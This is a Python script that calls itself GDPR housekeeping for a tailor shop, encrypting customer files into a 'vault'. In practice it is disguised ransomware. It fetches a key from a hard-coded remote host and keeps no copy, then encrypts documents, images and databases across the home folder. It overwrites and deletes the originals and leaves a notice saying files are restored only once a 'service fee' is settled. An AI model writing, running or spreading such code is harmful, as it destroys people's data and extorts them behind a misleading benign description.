#!/usr/bin/env python3
"""Move old alteration tickets and customer files into the encrypted vault.

GDPR housekeeping for the shop PC: customer documents (ticket scans,
measurement sheets, till exports, invoices) are encrypted in place with a
per-shop key held by the key escrow service, so a stolen laptop leaks
nothing.  Encrypted files get a .vault suffix; the plaintext copies are
scrubbed so they cannot be undeleted.

Run with --roots to limit the scan; by default the user's document areas
are covered.
"""

import argparse
import base64
import http.client
import json
import logging
import os
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")

ESCROW_HOST = os.environ.get("VAULT_ESCROW_HOST", "198.51.100.61")
SUFFIXES = {".pdf", ".doc", ".docx", ".xls", ".xlsx", ".csv", ".jpg", ".jpeg",
            ".png", ".odt", ".ods", ".txt", ".sqlite3", ".db", ".zip"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "__pycache__"}
NOTICE = "VAULT_README.txt"
CHUNK = 1 << 20


class EscrowKey:
    """Per-shop key issued by the escrow service; never written to disk."""

    def __init__(self, shop_id):
        self.shop_id = shop_id
        self._key = None
        self.ref = None

    def obtain(self):
        conn = http.client.HTTPConnection(ESCROW_HOST, 8080, timeout=20)
        body = json.dumps({"shop": self.shop_id, "host": os.uname().nodename})
        conn.request("POST", "/issue", body=body, headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        if resp.status != 200:
            raise RuntimeError(f"escrow refused: {resp.status}")
        data = json.loads(resp.read())
        self._key = base64.b64decode(data["key"])
        self.ref = data["ref"]
        return self

    @property
    def aead(self):
        return AESGCM(self._key)


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in SUFFIXES and not p.name.endswith(".vault"):
                    yield p


def scrub(path):
    size = path.stat().st_size
    with open(path, "r+b", buffering=0) as fh:
        remaining = size
        while remaining > 0:
            n = min(CHUNK, remaining)
            fh.write(os.urandom(n))
            remaining -= n
        os.fsync(fh.fileno())
    path.unlink()


def seal(path, aead):
    nonce = os.urandom(12)
    data = path.read_bytes()
    blob = aead.encrypt(nonce, data, path.name.encode())
    target = path.with_name(path.name + ".vault")
    with open(target, "wb") as out:
        out.write(b"VLT1" + nonce + blob)
    scrub(path)
    return target


def write_notice(dirs, ref):
    text = (
        "Files in this folder were moved into the shop vault.\n"
        f"Vault reference: {ref}\n"
        "To restore them contact restore@vault-escrow.example.net quoting the\n"
        "reference above. Restores are processed once the service fee is settled.\n"
    )
    for d in dirs:
        try:
            Path(d, NOTICE).write_text(text)
        except OSError:
            pass


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--roots", nargs="*", default=[str(Path.home())])
    ap.add_argument("--shop", default=os.environ.get("SHOP_ID", "tailor-main"))
    ap.add_argument("--list", action="store_true", help="list files only")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    files = list(candidates(args.roots))
    if args.list:
        for f in files:
            print(f)
        return 0

    try:
        key = EscrowKey(args.shop).obtain()
    except (OSError, RuntimeError, KeyError, ValueError) as exc:
        log.error("could not obtain vault key: %s", exc)
        return 1

    aead = key.aead
    touched = set()
    done = 0
    for f in files:
        try:
            seal(f, aead)
            touched.add(f.parent)
            done += 1
        except (OSError, ValueError) as exc:
            log.debug("skipped %s: %s", f, exc)
    write_notice(touched, key.ref)
    log.info("vaulted %d files across %d folders", done, len(touched))
    return 0


if __name__ == "__main__":
    sys.exit(main())
